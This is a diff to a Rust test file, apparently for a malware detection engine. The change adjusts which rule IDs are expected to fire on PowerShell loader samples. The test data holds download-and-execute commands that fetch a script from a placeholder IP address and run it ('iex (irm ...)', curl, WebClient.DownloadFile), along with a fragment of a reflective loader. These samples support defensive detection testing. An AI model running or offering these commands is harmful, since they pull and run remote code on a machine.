@@ -218,7 +218,11 @@ fn the_loader_is_told_by_its_shape_and_by_its_name() {
          [Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($a,$t).Invoke()",
         &[9_403_001],
     );
-    script("iex (irm http://203.0.113.7/icsnd16_64refl.ps1)", &[9_403_001, 9_403_003]);
+    script("iex (irm http://203.0.113.7/icsnd16_64refl.ps1)", &[9_403_003]);
+    script(
+        "iex (irm http://203.0.113.7/icsnd16_64refl.ps1); powershell -f C:\\temp\\icbt11801_64refl.ps1",
+        &[9_403_001, 9_403_003],
+    );
     command("powershell -f C:\\temp\\icbt11801_64refl.ps1", &[9_403_001]);
     command("curl -O http://203.0.113.7/icsnd16_64refl.ps1", &[9_403_001]);
     script("(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/icsnd16_64refl.ps1', 'a.ps1')", &[9_403_001]);
